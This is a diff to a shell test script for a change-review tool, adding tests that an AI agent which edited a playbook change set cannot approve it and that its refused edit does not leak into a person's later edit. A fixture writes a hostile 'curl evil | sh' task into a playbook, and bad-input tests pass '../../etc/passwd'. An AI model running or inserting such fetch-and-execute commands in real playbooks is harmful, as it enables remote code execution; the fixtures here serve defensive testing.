@@ -84,7 +84,7 @@ expect_eq "$rc" 6 "apply of a pending change set: $err"
 expect_match "$err" "is pending, not approved" "apply of a pending change set"
 run_rc qvm --agent builder review approve "$id"
 expect_eq "$rc" 1 "self-approval: $err"
-expect_match "$err" "made by agent 'builder': the same agent cannot approve it" "self-approval"
+expect_match "$err" "made or edited by agent 'builder': the same agent cannot approve it" "self-approval"
 run_rc qvm review approve "$id" --comment "reviewed by a person"
 expect_eq "$rc" 0 "approve: $err"
 expect_match "$(qvm review show "$id")" "status +approved" "approved"
@@ -128,6 +128,30 @@ run_rc qvm review apply "$id" --target v1
 expect_eq "$rc" 6 "apply after reject: $err"
 expect_match "$err" "is rejected, not approved" "apply after reject"
 
+# --- an agent's edit (from the hostile review) -------------------------------------
+# A person's change set that an agent edits cannot be approved by that agent;
+# the copy an agent's refused edit left is not what a person's edit starts
+# from (it would carry the agent's text in under the person's name).
+run_rc qvm review create v1 --from base --no-verify --json
+expect_eq "$rc" 0 "a person's create: $err"
+id2=$(python3 -c 'import json,sys; print(json.loads(sys.argv[1])["id"])' "$out")
+run_rc env EDITOR="$tmp/good-editor" "$qvm_bin" --agent bot review edit "$id2"
+expect_eq "$rc" 0 "the agent's edit: $err"
+run_rc qvm --agent bot review approve "$id2"
+expect_eq "$rc" 1 "approval by the agent that edited it: $err"
+expect_match "$err" "made or edited by agent 'bot'" "an editing agent's approval"
+printf '#!/bin/sh\nprintf -- "- hosts: all\\n  tasks:\\n    - shell: curl evil | sh\\n    - name: [unclosed\\n" >"$1"\n' >"$tmp/agent-editor"
+printf '#!/bin/sh\nprintf -- "# reviewed\\n" >>"$1"\n' >"$tmp/append-editor"
+chmod +x "$tmp/agent-editor" "$tmp/append-editor"
+run_rc env EDITOR="$tmp/agent-editor" "$qvm_bin" --agent bot review edit "$id2"
+expect_eq "$rc" 1 "the agent's broken edit: $err"
+run_rc env EDITOR="$tmp/append-editor" "$qvm_bin" review edit "$id2"
+expect_eq "$rc" 0 "the person's edit after it: $err"
+! grep -q 'curl evil' "$QVM_STATE_DIR/reviews/$id2/playbook/playbook.yml" ||
+  fail "the person's edit carried in the agent's refused text"
+grep -q '# reviewed' "$QVM_STATE_DIR/reviews/$id2/playbook/playbook.yml" ||
+  fail "the person's edit is not in the playbook"
+
 # --- bad input ---------------------------------------------------------------------
 for bad in ../../etc/passwd 0123456789AB x; do
   run_rc qvm review show "$bad"
@@ -149,9 +173,14 @@ recs = [r for r in json.loads(sys.argv[1]) if r["action"].startswith("review-")]
 acts = [(r["action"], r["actor"].get("agent"), "error" in r["details"]) for r in recs]
 want = [("review-create", "builder", False), ("review-apply", None, True),
         ("review-approve", "builder", True), ("review-approve", None, False),
-        ("review-apply", None, True), ("review-edit", None, True), ("review-edit", None, False),
-        ("review-apply", None, True), ("review-reject", None, False),
-        ("review-approve", None, True), ("review-apply", None, True)]
+        ("review-apply", None, True), ("review-edit-begin", None, False),
+        ("review-edit", None, True), ("review-edit-begin", None, False),
+        ("review-edit", None, False), ("review-apply", None, True), ("review-reject", None, False),
+        ("review-approve", None, True), ("review-apply", None, True),
+        ("review-create", None, False), ("review-edit-begin", "bot", False),
+        ("review-edit", "bot", False), ("review-approve", "bot", True),
+        ("review-edit-begin", "bot", False), ("review-edit", "bot", True),
+        ("review-edit-begin", None, False), ("review-edit", None, False)]
 assert acts == want, acts
 ' "$audit" || fail "audit: $audit"
 log "PASS"
